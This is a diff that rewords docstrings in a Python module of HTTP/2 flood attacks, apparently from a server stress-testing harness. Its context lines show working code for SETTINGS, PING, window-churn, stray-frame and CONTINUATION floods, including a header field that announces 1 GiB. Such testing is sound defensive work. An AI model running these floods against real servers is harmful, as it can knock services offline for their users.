@@ -1,4 +1,4 @@
-"""Attacks by frames that cost a sender nothing: floods of control frames, of empty frames, of pieces of headers."""
+"""Attacks by frames that cost the sender nothing: floods of control frames, empty frames and pieces of headers."""
 
 import time
 
@@ -10,7 +10,7 @@ from abuse_http2 import (
 
 
 def flood(context, block, start=b"", connections=4, reads=True):
-    """The same bytes again and again, on connections that are opened again when they are cut."""
+    """Sends the same bytes repeatedly, on connections that are opened again when they are cut."""
     sent = [0]
 
     def refill(connection):
@@ -34,7 +34,7 @@ OPEN = frame(HEADERS, END_HEADERS, 1, header_block("SetBatch"))
 
 @attack("settings-flood", "floods", seconds=8)
 def settings_flood(context):
-    """SETTINGS, each of which wants an acknowledgement."""
+    """SETTINGS, each of which needs an acknowledgement."""
     flood(context, settings([(INITIAL_WINDOW_SIZE, 65_535)]) * 500)
 
 
@@ -46,14 +46,14 @@ def settings_unread(context):
 
 @attack("window-churn", "floods", seconds=8)
 def window_churn(context):
-    """SETTINGS that change the initial window of 1,000 open streams to and fro."""
+    """SETTINGS that change the initial window of 1,000 open streams up and down."""
     opened = b"".join(frame(HEADERS, END_HEADERS, stream, header_block("Get")) for stream in range(1, 2_000, 2))
     flood(context, settings([(INITIAL_WINDOW_SIZE, 0)]) + settings([(INITIAL_WINDOW_SIZE, 1 << 30)]), opened)
 
 
 @attack("ping-flood", "floods", seconds=8)
 def ping_flood(context):
-    """PINGs, each of which wants an answer."""
+    """PINGs, each of which needs an answer."""
     flood(context, frame(PING, 0, 0, b"12345678") * 500)
 
 
@@ -103,7 +103,7 @@ def continuation_flood(context):
 
 @attack("huge-field", "floods", seconds=8, is_about_memory=True)
 def huge_field(context):
-    """One header field that says it has 1 GiB, in CONTINUATION frames."""
+    """One header field that announces 1 GiB, in CONTINUATION frames."""
     start = frame(HEADERS, 0, 1, header_block("Get") + b"\x00\x01x\x7f\x81\xff\xff\xff\x03")
     flood(context, frame(CONTINUATION, 0, 1, b"c" * 16_384), start, 8)
 
@@ -139,7 +139,7 @@ def costly_bursts(context):
 
 @attack("stray-frames", "floods", seconds=8)
 def stray_frames(context):
-    """RST_STREAM, WINDOW_UPDATE, PING and SETTINGS acknowledgements that belong to nothing, and GOAWAY after GOAWAY."""
+    """RST_STREAM, WINDOW_UPDATE, PING and SETTINGS acknowledgements for nothing, and GOAWAY after GOAWAY."""
     flood(context, (
         frame(PING, ACK, 0, b"87654321") + frame(SETTINGS, ACK, 0) + frame(GOAWAY, 0, 0, bytes(8))) * 200)
 
